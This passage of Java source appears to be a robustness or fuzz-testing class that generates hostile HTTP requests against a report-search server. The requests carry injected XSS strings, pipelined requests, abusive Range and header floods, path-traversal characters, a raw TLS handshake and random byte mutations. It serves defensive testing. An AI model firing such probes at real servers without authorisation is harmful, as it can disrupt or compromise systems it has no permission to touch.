            "GET healthz HTTP/1.1\r\n" + h + "\r\n",
            "GET %2F HTTP/1.1\r\n" + h + "\r\n",
            "GET /healthz?" + xss + " HTTP/1.1\r\n" + h + "\r\n",
            "GET /" + xss + " HTTP/1.1\r\n" + h + "\r\n",
            "GET /api/v1/" + xss + " HTTP/1.1\r\n" + h + "\r\n",
            "GET /api/v1/search?q=" + xss + "&region=" + xss + " HTTP/1.1\r\n" + h + "\r\n",
            "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
            "GET /healthz HTTP/1.1\r\n"
                + h
                + "\r\nGET /nope"
                + xss
                + " HTTP/1.1\r\n"
                + h
                + "\r\nGET /api/v1/nope"
                + xss
                + " HTTP/1.1\r\n"
                + h
                + "Connection: close\r\n\r\n",
            "GET /healthz HTTP/1.1\r\n" + h,
            "GET /healthz HTTP/1.1",
            "GET",
            "\r\n".repeat(500),
            "GET /healthz HTTP/1.1\r\n" + h + "Range: bytes=" + "0-1,".repeat(500) + "2-3\r\n\r\n",
            "GET /static/nianbao.css HTTP/1.1\r\n" + h + "Range: bytes=-1\r\n\r\n",
            "GET /static/nianbao.css HTTP/1.1\r\n"
                + h
                + "Range: bytes=99999999999999999999-\r\n\r\n",
            "GET /static/nianbao.css HTTP/1.1\r\n"
                + h
                + "If-Modified-Since: "
                + xss
                + "\r\nIf-None-Match: *\r\n\r\n",
            "GET /healthz HTTP/1.1\r\n" + h + "Accept-Encoding: gzip;q=2, br;q=-1, *;q=NaN\r\n\r\n",
            "GET /healthz HTTP/1.1\r\n"
                + h
                + "Accept-Charset: x-"
                + xss
                + "\r\nAccept: text/"
                + xss
                + "\r\n\r\n",
            "GET /healthz HTTP/1.1\r\n"
                + h
                + "Content-Type: text/html; charset="
                + xss
                + "\r\nContent-Length: 0\r\n\r\n",
            "GET /healthz HTTP/1.1\r\n" + h + "Connection: keep-alive, " + xss + "\r\n\r\n",
            "GET /healthz HTTP/1.1\r\n" + h + "Cookie: " + "a=b; ".repeat(500) + "\r\n\r\n",
            "GET /healthz HTTP/1.1\r\n"
                + h
                + "X-Forwarded-For: "
                + "1.1.1.1, ".repeat(300)
                + "\r\n\r\n",
            "GET /healthz HTTP/1.1\r\n" + h + "Authorization: Basic " + "%%%%" + "\r\n\r\n",
            "GET /healthz HTTP/1.1\r\n" + h + "Authorization: Bearer " + xss + "\r\n\r\n");
    List<byte[]> out = new ArrayList<>();
    for (String text : texts) {
      out.add(text.getBytes(StandardCharsets.ISO_8859_1));
    }
    out.add(
        HexFormat.of()
            .parseHex(
                "16030100a5010000a10303"
                    + "00".repeat(32)
                    + "000020c02bc02fc02cc030cca9cca8c013c014009c009d002f0035000a0100"));
    byte[] garbage = new byte[1_500];
    new Random(seed).nextBytes(garbage);
    out.add(garbage);
    return out;
  }

  private byte[] validRequest(Random random) {
    String route = route(ROUTES.get(random.nextInt(ROUTES.size())), random);
    String text =
        "GET "
            + route
            + "?q="
            + q("抖音")
            + "&year=2023&page=1 HTTP/1.1\r\nHost: "
            + host
            + "\r\nUser-Agent: hostile\r\nAccept: */*\r\nConnection: close\r\n\r\n";
    return text.getBytes(StandardCharsets.ISO_8859_1);
  }

  /** A few random byte flips, insertions, deletions and duplications of a valid request. */
  private static byte[] mutate(byte[] request, Random random) {
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    byte[] current = request;
    int edits = 1 + random.nextInt(6);
    for (int e = 0; e < edits; e++) {
      out.reset();
      int at = random.nextInt(current.length);
      switch (random.nextInt(5)) {
        case 0 -> { // flip a byte
          out.write(current, 0, current.length);
          byte[] flipped = out.toByteArray();
          flipped[at] = (byte) random.nextInt(256);
          current = flipped;
          continue;
        }
        case 1 -> { // insert bytes
          out.write(current, 0, at);
          byte[] insert = new byte[1 + random.nextInt(8)];
          random.nextBytes(insert);
          out.write(insert, 0, insert.length);
          out.write(current, at, current.length - at);
        }
        case 2 -> { // delete a run
          int len = Math.min(current.length - at, 1 + random.nextInt(10));
          out.write(current, 0, at);
          out.write(current, at + len, current.length - at - len);
        }
        case 3 -> { // insert a special character
          out.write(current, 0, at);
          byte[] special =
              pick(
                      List.of(
                          "\r\n", "\n", "\r", " ", ":", "%", "\u0000", "\t", "<", "\"", "/../", "?",
                          "#", ";"),
                      random)
                  .getBytes(StandardCharsets.ISO_8859_1);
          out.write(special, 0, special.length);
          out.write(current, at, current.length - at);
        }
        default -> { // duplicate a run
          int len = Math.min(current.length - at, 1 + random.nextInt(40));
          out.write(current, 0, at + len);
          out.write(current, at, current.length - at);
        }
      }
      current = out.toByteArray();
      if (current.length == 0) {
        current = new byte[] {'G'};
      }
    }
    return current;
  }

  // ---------------------------------------------------------------- helpers

  private String route(String template, Random random) {
    return template.replace("{id}", ids.get(random.nextInt(ids.size())));
  }

  /** Valid companion parameters a real search carries. */
  private static List<String> companions(Random random) {
    List<String> all =
        List.of(
            "q=" + q("抖音"),
            "year=2023",
            "region=" + q("山东省"),
            "level=city",
            "page=1",
            "size=5",
            "sort=year_desc",
            "flag=R1",
            "agency=" + q("淄博市文化和旅游局"),
            "sector=" + q("文化和旅游"));
    List<String> out = new ArrayList<>();
    for (String companion : all) {
      if (random.nextInt(4) == 0) {
        out.add(companion);
      }
    }
    return out;
  }

  /**
   * The payload URL-encoded as a form (spaces as +), percent-encoded throughout, or raw where the
   * request line allows it.
   */
  private static String encodeSomehow(String payload, Random random) {
    return switch (random.nextInt(3)) {
      case 0 -> q(payload);
      case 1 -> percentAll(payload);
      default -> rawQuery(payload);
    };
  }

  static String q(String value) {
    return URLEncoder.encode(value, StandardCharsets.UTF_8);
  }

  /** Every byte outside [A-Za-z0-9] as %XX. */
  private static String percentAll(String value) {
    StringBuilder out = new StringBuilder();
    for (byte b : value.getBytes(StandardCharsets.UTF_8)) {
      int c = b & 0xff;
      if (c < 0x80 && Character.isLetterOrDigit(c)) {
        out.append((char) c);
      } else {
        out.append('%').append(String.format(Locale.ROOT, "%02X", c));
      }
    }
    return out.toString();
  }

  /**
   * Only what would end the value or the request line is escaped; < > " ' go raw, non-ASCII as raw
   * UTF-8 bytes.
   */
  private static String rawQuery(String value) {
    String escaped =
        value
            .replace("%", "%25")
            .replace(" ", "%20")
            .replace("&", "%26")
            .replace("#", "%23")
            .replace("+", "%2B")
            .replace("=", "%3D")
            .replace("\r", "%0D")
            .replace("\n", "%0A");
    return latin1(escaped.getBytes(StandardCharsets.UTF_8));
  }

  private static String rawPath(String value) {
    String escaped =
        value
            .replace("%", "%25")
            .replace(" ", "%20")
            .replace("/", "%2F")
            .replace("?", "%3F")
            .replace("#", "%23");
    return latin1(escaped.getBytes(StandardCharsets.UTF_8));
  }

  /** Bytes as a string of chars 0–255, so that they go on the wire unchanged (ISO-8859-1). */
  static String latin1(byte[] bytes) {
    return new String(bytes, StandardCharsets.ISO_8859_1);
  }

  private static <T> T pick(List<T> list, Random random) {
    return list.get(random.nextInt(list.size()));
  }

  /** Assembles one probe; the request line and headers are Latin-1 strings (a char is a byte). */
  private final class Builder {
    private final int number;
    private final Kind kind;
    private final List<String[]> headers = new ArrayList<>();
    private final List<String> payloads = new ArrayList<>();
    private final List<String> urlPayloads = new ArrayList<>();
    private boolean host = true;
    private boolean mustAnswer = true;
    private byte[] body;
    private byte[] raw;
    private String requestLine;

    Builder(int number, Kind kind) {
      this.number = number;
      this.kind = kind;
    }

    Builder payload(String payload) {
      payloads.add(payload);
      return this;
    }

    Builder urlPayload(String payload) {
      urlPayloads.add(payload);
      return this;
    }

    Builder header(String name, String value) {
      headers.add(new String[] {name, value});
      return this;
    }

    Builder withoutHost() {
      host = false;
      return this;
    }

    Builder mayClose() {
      mustAnswer = false;
      return this;
    }

    Builder body(String text, String contentType) {
      body = text.getBytes(StandardCharsets.UTF_8);
      header("Content-Type", contentType);
      header("Content-Length", Integer.toString(body.length));
      return this;
    }

    Builder chunked(String text) {
      byte[] data = text.getBytes(StandardCharsets.UTF_8);
      body =
          (Integer.toHexString(data.length) + "\r\n" + latin1(data) + "\r\n0\r\n\r\n")
              .getBytes(StandardCharsets.ISO_8859_1);
      header("Transfer-Encoding", "chunked");
      return this;
    }

    Builder raw(byte[] bytes) {
      raw = bytes;
      return this;
    }

    Builder get(String target, String method) {
      requestLine = method + " " + target + " HTTP/1.1";
      return this;
    }

    Probe build() {
      if (raw != null) {
        return new Probe(number, kind, raw, payloads, urlPayloads, mustAnswer);
      }
      StringBuilder head = new StringBuilder(requestLine).append("\r\n");
      if (host) {
        head.append("Host: ").append(HostileRequests.this.host).append("\r\n");
      }
      for (String[] header : headers) {
        head.append(header[0]).append(": ").append(header[1]).append("\r\n");
      }
      head.append("Connection: close\r\n\r\n");
      byte[] start = head.toString().getBytes(StandardCharsets.ISO_8859_1);
      byte[] all = start;
      if (body != null) {
        all = new byte[start.length + body.length];
        System.arraycopy(start, 0, all, 0, start.length);
        System.arraycopy(body, 0, all, start.length, body.length);
      }
      return new Probe(number, kind, all, payloads, urlPayloads, mustAnswer);
    }
  }
}
